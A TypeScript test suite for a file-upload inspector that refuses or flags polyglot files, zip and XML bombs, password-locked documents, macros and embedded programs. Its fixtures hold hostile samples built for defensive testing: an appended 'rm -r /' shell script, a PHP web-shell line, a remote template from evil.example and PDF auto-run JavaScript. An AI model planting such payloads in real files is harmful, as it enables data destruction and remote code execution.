import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeDocx, makeOpenDocument, makePptx, makeXlsx, makeZip } from '../../../test/support/archives.ts';
import { makeFilm } from '../../../test/support/films.ts';
import { makePdf } from '../../../test/support/multipart.ts';
import { inspectFile } from './inspect-file.ts';

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'tessera-inspect-'));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

async function inspect(name: string, content: Uint8Array | string) {
  const path = join(folder, 'file');
  await writeFile(path, content);
  return inspectFile(path, name, { scanner: undefined });
}

const pixels = { create: { width: 40, height: 30, channels: 3, background: '#1d5c63' } } as const;
const jpeg = () => sharp(pixels).jpeg().toBuffer();
const gif = () => sharp(pixels).gif().toBuffer();
const png = () => sharp(pixels).png().toBuffer();
const zip = () => makeZip([{ name: 'a.txt', content: 'a' }]);
const jar = () =>
  makeZip([
    { name: 'META-INF/MANIFEST.MF', content: 'Main-Class: A' },
    { name: 'A.class', content: '\xca\xfe\xba\xbe' },
  ]);
const wave = Buffer.concat([
  Buffer.from(
    'RIFF\x24\0\0\0WAVEfmt \x10\0\0\0\x01\0\x01\0\x44\xac\0\0\x88\x58\x01\0\x02\0\x10\0data\0\0\0\0',
    'latin1',
  ),
]);
const page = '<html><script>alert(1)</script></html>';
const join2 = async (first: Promise<Uint8Array> | Uint8Array, second: Promise<Uint8Array> | string) =>
  Buffer.concat([await first, Buffer.from((await second) as string)]);

describe('two files in one are refused:', () => {
  it.each<[string, string, () => Promise<Uint8Array>]>([
    ['a PDF with an archive behind it', 'a.pdf', () => join2(makePdf(), zip())],
    ['a PDF with a Java program behind it', 'a.pdf', () => join2(makePdf(), jar())],
    ['an image with a Java program behind it (GIFAR)', 'a.gif', () => join2(gif(), jar())],
    ['a photo with an archive behind it', 'a.jpg', () => join2(jpeg(), zip())],
    ['a drawing with an archive behind it', 'a.png', () => join2(png(), zip())],
    ['a film with an archive behind it', 'a.mp4', () => join2(makeFilm(), zip())],
    ['a recording with an archive behind it', 'a.wav', () => join2(wave, zip())],
    ['a photo with a page behind it', 'a.jpg', () => join2(jpeg(), Promise.resolve(Buffer.from(page)))],
    ['a photo with an old archive behind it', 'a.jpg', () => join2(jpeg(), 'Rar!\x1a\x07\x00')],
    ['a photo with a script behind it', 'a.jpg', () => join2(jpeg(), '#!/bin/sh\nrm -r /\n')],
    ['a film with a page before its pictures', 'a.mp4', () => join2(makeFilm(), Promise.resolve(Buffer.from(page)))],
    [
      'a PDF that is a page as well',
      'a.pdf',
      async () =>
        Buffer.from(
          `%PDF-1.7\n${page}\n${Buffer.from(await makePdf())
            .toString('latin1')
            .slice(9)}`,
          'latin1',
        ),
    ],
  ])('%s', async (_what, name, make) => {
    const found = await inspect(name, await make());
    expect(found).toEqual({ ok: false, message: expect.stringContaining('is two files in one') as string });
  });

  it('but an archive’s marks in the middle of a file are none', async () => {
    const end = (await zip()).subarray(-22);
    expect(await inspect('a.pdf', await join2(makePdf(), Promise.resolve(end)))).toMatchObject({ ok: true });
  });
});

describe('text', () => {
  it.each([
    ['a page further down', `Notes.\n\n<!doctype html>\n${page}`],
    ['a script further down', 'Notes.\n  <script>alert(1)</script>'],
    ['a program', '<?php system($_GET["c"]);'],
    ['a saved page', 'MIME-Version: 1.0\nContent-Type: multipart/related'],
  ])('with %s is refused', async (_what, content) => {
    expect(await inspect('notes.txt', content)).toMatchObject({ ok: false });
  });

  it('that shows a page as code is a text', async () => {
    const found = await inspect('lesson.md', `Write this:\n\n\`\`\`html\n${page}\n\`\`\`\n`);
    expect(found).toMatchObject({ ok: true, mediaType: 'text/plain' });
  });
});

describe('what unpacks to far more than it is is refused:', () => {
  const zeros = Buffer.alloc(20_000_000);
  it.each<[string, string, () => Promise<Uint8Array>]>([
    [
      'an archive in a document',
      'a.docx',
      async () => nest(await makeZip([{ name: 'x', content: Buffer.alloc(45_000_000) }])),
    ],
    [
      'two that are each small enough',
      'a.docx',
      async () => {
        const inner = await makeZip([{ name: 'x', content: zeros }]);
        return makeDocx(['a'], { name: 'word/1.xlsx', content: inner }, { name: 'word/2.xlsx', content: inner });
      },
    ],
    [
      'archives in archives in archives',
      'a.odt',
      async () => {
        let inner = await zip();
        for (let depth = 0; depth < 5; depth += 1) inner = await makeZip([{ name: 'a.zip', content: inner }]);
        return makeOpenDocument('text', '', { name: 'a.zip', content: inner });
      },
    ],
    [
      'a document of very many parts',
      'a.docx',
      () =>
        makeDocx(['a'], ...Array.from({ length: 20_001 }, (_, i) => ({ name: `p/${i}`, content: '', stored: true }))),
    ],
  ])('%s', async (_what, name, make) => {
    expect(await inspect(name, await make())).toEqual({
      ok: false,
      message: expect.stringContaining('unpacks to far more') as string,
    });
  });

  it('an image of too many pixels', async () => {
    const huge = await png();
    huge.writeUInt32BE(60_000, 16);
    huge.writeUInt32BE(60_000, 20);
    const found = await inspect('a.png', huge);
    expect(found).toEqual({ ok: false, message: expect.stringMatching(/unpacks to far more|is damaged/) as string });
  });

  const nest = (inner: Uint8Array) => makeDocx(['a'], { name: 'word/embeddings/a.xlsx', content: inner });
});

describe('what is locked by a password is refused:', () => {
  const cfb = (name: string) =>
    Buffer.concat([
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      Buffer.alloc(600),
      Buffer.from(name, 'utf16le'),
      Buffer.alloc(600),
    ]);
  const manifest = '<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>';
  it.each<[string, string, () => Promise<Uint8Array> | Uint8Array, string]>([
    ['a document', 'a.docx', () => cfb('EncryptedPackage'), 'is protected by a password'],
    ['an old document, which may be', 'a.doc', () => cfb('WordDocument'), 'in an old Office format'],
    [
      'an OpenDocument text',
      'a.odt',
      () => makeOpenDocument('text', '', { name: 'META-INF/manifest.xml', content: manifest }),
      'is protected by a password',
    ],
    [
      'a PDF whose trailer holds the lock',
      'a.pdf',
      () =>
        Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer <</Encrypt <</Filter /Standard>> /Root 1 0 R>>\n%%EOF'),
      'is protected by a password',
    ],
  ])('%s', async (_what, name, make, reason) => {
    expect(await inspect(name, await make())).toEqual({
      ok: false,
      message: expect.stringContaining(reason) as string,
    });
  });
});

describe('programs and scripts in a document', () => {
  it.each<[string, string, string[], () => Promise<Uint8Array>]>([
    ['Word', 'a.docm', ['macros'], () => makeDocx(['a'], { name: 'word/vbaProject.bin', content: 'VBA' })],
    [
      'Word, under a name without macros',
      'a.docx',
      ['macros'],
      () => makeDocx(['a'], { name: 'word/vbaProject.bin', content: 'VBA' }),
    ],
    ['PowerPoint', 'a.pptm', ['macros'], () => makePptx(['a'], { name: 'ppt/vbaProject.bin', content: 'VBA' })],
    ['Excel', 'a.xlsm', ['macros'], () => makeXlsx('A', [[1]], { name: 'xl/macrosheets/sheet1.xml', content: '<x/>' })],
    [
      'OpenDocument',
      'a.odt',
      ['macros'],
      () => makeOpenDocument('text', '', { name: 'Basic/Standard/Module1.xml', content: '<x/>' }),
    ],
    [
      'an embedded object',
      'a.docx',
      ['embedded'],
      () => makeDocx(['a'], { name: 'word/embeddings/oleObject1.bin', content: 'OLE' }),
    ],
    [
      'a template from elsewhere',
      'a.docx',
      ['remote'],
      () =>
        makeDocx(['a'], {
          name: 'word/_rels/settings.xml.rels',
          content:
            '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>',
        }),
    ],
    [
      'a PDF that runs something when it opens',
      'a.pdf',
      ['scripts'],
      async () =>
        Buffer.from('%PDF-1.4\n1 0 obj\n<</OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>> >>\nendobj\n%%EOF'),
    ],
    ['nothing of the kind', 'a.docx', [], () => makeDocx()],
  ])('of %s are taken and noted', async (_what, name, flags, make) => {
    expect(await inspect(name, await make())).toMatchObject({ ok: true, facts: { flags } });
  });

  it.each(['word/setup.exe', 'word/media/run.ps1', 'word/library.jar'])(
    'are refused where anybody could run them: %s',
    async (name) => {
      expect(await inspect('a.docx', await makeDocx(['a'], { name, content: 'MZ' }))).toEqual({
        ok: false,
        message: expect.stringContaining('holds a program') as string,
      });
    },
  );
});

describe('a good file is taken for what it is:', () => {
  it.each<[string, string, () => Promise<Uint8Array> | Uint8Array | string]>([
    ['a.pdf', 'application/pdf', () => makePdf()],
    ['a.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', () => makeDocx()],
    ['a.pptx', 'application/vnd.openxmlformats-officedocument.presentationml.presentation', () => makePptx(['a'])],
    ['a.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', () => makeXlsx('A', [['a']])],
    ['a.odt', 'application/vnd.oasis.opendocument.text', () => makeOpenDocument('text', '')],
    ['a.rtf', 'application/rtf', () => '{\\rtf1 Hello}'],
    ['a.jpg', 'image/jpeg', jpeg],
    ['a.png', 'image/png', png],
    ['a.gif', 'image/gif', gif],
    ['a.webp', 'image/webp', () => sharp(pixels).webp().toBuffer()],
    ['a.avif', 'image/avif', () => sharp(pixels).avif().toBuffer()],
    ['a.mp4', 'video/mp4', () => makeFilm()],
    ['a.wav', 'audio/wav', () => wave],
    ['a.csv', 'text/csv', () => 'a,b\n1,2\n'],
    ['a.txt', 'text/plain', () => 'What we agreed on.'],
  ])('%s', async (name, mediaType, make) => {
    expect(await inspect(name, await make())).toMatchObject({ ok: true, mediaType });
    expect(await inspect(name, '')).toMatchObject({
      ok: false,
      message: expect.stringContaining('is empty') as string,
    });
  });

  it('an image tells its size, as it is looked at, and who made it where', async () => {
    const turned = await sharp(pixels)
      .withExif({
        IFD0: { Artist: 'Maya Okafor', Model: 'Pixel 8' },
        IFD3: {
          GPSLatitudeRef: 'N',
          GPSLatitude: '47/1 36/1 0/1',
          GPSLongitudeRef: 'W',
          GPSLongitude: '122/1 19/1 0/1',
        },
      })
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer();
    const found = await inspect('a.jpg', turned);
    expect(found).toMatchObject({
      ok: true,
      facts: {
        measure: { width: 30, height: 40 },
        metadata: [
          { label: 'Where it was taken', value: '47.60000, -122.31667', kind: 'place' },
          { label: 'Made by', value: 'Maya Okafor', kind: 'person' },
          { label: 'Device', value: 'Pixel 8', kind: 'device' },
        ],
      },
    });
  });
});

describe('what was made to take hours is read in no time:', () => {
  /** A drawing that says this of itself (XMP). */
  const drawing = async (xmp: string) => {
    const [image, text] = [await png(), Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${xmp}`)];
    const head = Buffer.alloc(8);
    head.writeUInt32BE(text.length);
    head.write('iTXt', 4);
    return Buffer.concat([image.subarray(0, 33), head, text, Buffer.alloc(4), image.subarray(33)]);
  };
  const said = (inner: string) =>
    `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/">${inner}</rdf:Description></rdf:RDF></x:xmpmeta>`;

  it.each<[string, string, () => Promise<Uint8Array>]>([
    [
      'relationships that never end',
      'a.docx',
      () => makeDocx(['Hello.'], { name: 'word/_rels/a.xml.rels', content: '<Relationship '.repeat(70_000) }),
    ],
    ['elements that never end', 'a.png', () => drawing(said('<a:b>'.repeat(100_000)))],
    ['elements within elements', 'a.png', () => drawing(said('<a:b>'.repeat(20_000) + '</a:b>'.repeat(20_000)))],
    ['tags that never end', 'a.png', () => drawing(said('<rdf:Description '.repeat(20_000)))],
    ['elements side by side', 'a.png', () => drawing(said('<a:b>x</a:b>'.repeat(20_000)))],
  ])('%s', async (_what, name, make) => {
    expect(await inspect(name, await make())).toMatchObject({ ok: true });
  });

  it('and what an orderly image says is read as before', async () => {
    const found = await inspect('a.png', await drawing(said('<dc:rights>Maya Okafor</dc:rights>')));
    expect(found).toMatchObject({ facts: { metadata: [{ label: 'Copyright', value: 'Maya Okafor' }] } });
  });
});
